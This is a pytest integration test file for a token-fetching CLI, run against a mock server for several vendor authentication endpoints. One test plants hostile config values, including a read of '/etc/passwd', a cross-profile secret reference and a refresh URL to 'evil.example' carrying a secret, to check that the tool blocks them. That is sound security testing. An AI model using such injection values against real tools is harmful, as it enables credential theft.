"""Endpoints of the zoo by real processes: as a user has them, from the file to the header."""

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from tests.conftest import Run
from tests.zoo.cases import first, host_of, later
from tests.zoo.keeping import config_text, secrets_of
from tests.zoo.server import Zoo


@pytest.fixture(scope="module")
def zoo() -> Iterator[Zoo]:
    """Return the server."""
    server = Zoo()
    yield server
    server.stop()


def prepare(name: str, zoo: Zoo, folder: Path) -> dict[str, str]:
    """Write the configuration of an endpoint that lies on this machine; return the environment."""
    here = zoo.address
    zoo.serve(
        [replace(a, url=a.url.replace(host_of(name), here)) for a in (first(name), *later(name))]
    )
    path = folder / "config.toml"
    path.write_text(config_text(name, folder, here, ca_file=zoo.ca_file))
    path.chmod(0o600)
    return {**secrets_of(name), "TOKENCLI_CONFIG": str(path)}


@pytest.mark.parametrize(
    ("name", "headers"),
    [
        ("vault-approle", ["X-Vault-Token: hvs.fake"]),
        ("proxmox-ticket", ["Cookie: PVEAuthCookie=PVE:root@pam:4EEC61E2::fake", "CSRFPreventionToken: 4EEC61E2:fake"]),
        ("oracle-sbc", ["Authorization: Bearer fake-sbc-token"]),
        ("cisco-fmc", ["X-auth-access-token: fake-fmc-access"]),
    ],
)  # fmt: skip
def test_an_endpoint_from_file_to_header(
    tokencli: Run, zoo: Zoo, tmp_path: Path, name: str, headers: list[str]
) -> None:
    """get, get again from the store, refresh by the vendor's own request, and the headers for curl."""
    env = prepare(name, zoo, tmp_path)
    got = tokencli("get", "p", "--format", "header", env=env)
    assert got.code == 0, got.err + str(zoo.complaints)
    assert got.out.splitlines() == headers
    assert tokencli("get", "p", env=env).code == 0
    assert len(zoo.seen) == 1
    renewed = tokencli("refresh", "p", env=env)
    assert renewed.code == 0, renewed.err + str(zoo.complaints)
    assert zoo.seen[1] is zoo.asked[1]
    assert zoo.complaints == []


def test_a_trace_tells_the_exchange_and_no_secret(tokencli: Run, zoo: Zoo, tmp_path: Path) -> None:
    """Both sides of the exchange are told by field; neither a secret sent nor a token got is in it."""
    env = prepare("vault-approle", zoo, tmp_path)
    done = tokencli("get", "p", "--trace", env=env)
    assert done.out == "hvs.fake\n"
    assert "> POST https://" in done.err
    assert "role-1" in done.err
    assert '"lease_duration": 1200' in done.err
    assert "canary" not in done.err
    assert "hvs.fake" not in done.err


FIELD = "[providers.vault-approle.fields.role_id]\n"


def test_a_strangers_provider_gets_nothing_that_is_not_its_profiles(
    tokencli: Run, zoo: Zoo, tmp_path: Path
) -> None:
    """It names another profile's secret, a file, a variable, another server: all in vain."""
    prepare("vault-approle", zoo, tmp_path)
    path = tmp_path / "config.toml"
    whole = path.read_text()
    for old, new in (
        ('role_id = "{role_id}"', 'role_id = "{client_secret}"'),
        ('role_id = "{role_id}"', 'role_id = "{env:HOME}"'),
        ('role_id = "{role_id}"', 'role_id = "{file|/etc/passwd}"'),
        ('role_id = "{role_id}"', 'role_id = "{profiles.other.secret_id}"'),
        (FIELD, f'{FIELD}env = "HOME"\n'),
        ("https://{host}/v1/auth/token/renew-self", "https://evil.example/{secret_id}"),
    ):
        assert old in whole, old
        path.write_text(whole.replace(old, new))
        env = {**secrets_of("vault-approle"), "TOKENCLI_CONFIG": str(path)}
        env.pop("ZOO_CLIENT_SECRET")
        zoo.seen.clear()
        done = tokencli("get", "p", "--force", env=env)
        if "evil" in new:
            assert done.code == 0
            done = tokencli("refresh", "p", env=env)
            assert "not a server that the profile names" in done.err
            assert len(zoo.seen) == 1
        else:
            assert zoo.seen == []
        assert done.code in (3, 4)
        assert "canary" not in done.err


def test_json_has_what_came_beside_the_token(tokencli: Run, zoo: Zoo, tmp_path: Path) -> None:
    """The named outputs of a reply are in the JSON, for whoever needs the API's address or a CSRF."""
    env = prepare("proxmox-ticket", zoo, tmp_path)
    found = json.loads(tokencli("get", "p", "--json", env=env).out)
    assert found["outputs"] == {"csrf": "4EEC61E2:fake"}
